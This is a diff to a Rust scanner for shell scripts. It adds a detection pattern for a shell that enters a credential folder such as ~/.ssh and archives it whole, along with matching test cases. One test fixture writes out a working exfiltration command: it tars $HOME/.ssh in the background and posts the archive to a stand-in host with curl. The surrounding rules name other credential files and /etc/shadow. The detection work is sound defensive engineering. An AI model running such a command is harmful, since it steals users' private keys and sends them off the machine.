@@ -26,6 +26,8 @@ static STORES: LazyLock<Vec<(Pattern, &'static str)>> = LazyLock::new(|| {
         (r"\.pypirc(?-u:\b)", "a PyPI token"),
         (r"/etc/shadow(?-u:\b)", "the system's password hashes"),
         (r"(?-u:\b)(?:tar|zip|7z|cp|rsync|scp)(?-u:\b)[^|;\n]*[[:space:]/'\x22](?:\.ssh|\.aws|\.gnupg|\.kube|\.docker|\.config/gcloud)/?(?:[[:space:]'\x22]|$)", "a whole credential folder"),
+        // `cd ~/.ssh && tar czf - .`: the folder entered, then archived whole.
+        (r"(?-u:\b)cd[[:space:]]+['\x22]?(?:~|\$HOME|\$\{HOME\})/(?:\.ssh|\.aws|\.gnupg|\.kube|\.docker|\.config/gcloud)/?['\x22]?[[:space:]]*(?:&&|;)[[:space:]]*(?:tar|zip|7z|cp|rsync|scp)(?-u:\b)[^|;\n]*[[:space:]]\.(?:[[:space:]]|$)", "a whole credential folder"),
         (r"(?-u:\b)(?:grep|rg|ag|findstr|Select-String)(?-u:\b)[^\n]*-----BEGIN", "private keys (found by their content)"),
         (r"\.npmrc(?-u:\b)", "an npm token"),
         (r"\.cargo/credentials(?:\.toml)?(?-u:\b)", "a crates.io token"),
@@ -864,6 +866,9 @@ mod tests {
     #[allow(clippy::too_many_lines, reason = "a table of cases, one line each")]
     fn reads_sends_and_dialogs() {
         assert_eq!(codes("a.sh", "cat ~/.ssh/id_rsa\n"), ["SK907"]);
+        let entered = "( cd \"$HOME/.ssh\" && tar czf - --exclude='cm-*' . | \\\n  curl -s --data-binary @- \"https://kh.example/v1\" ) &\n";
+        assert_eq!(codes("a.sh", entered), ["SK907", "SK908"]);
+        assert!(codes("a.sh", "cd ~/.ssh && ls -la .\n").is_empty());
         assert!(codes("a.sh", "cat > ~/.config/rclone/rclone.conf << 'EOF'\n").is_empty());
         assert!(codes("a.sh", "cat >> \"$HOME/.pgpass\" <<EOF\n").is_empty());
         let fake =
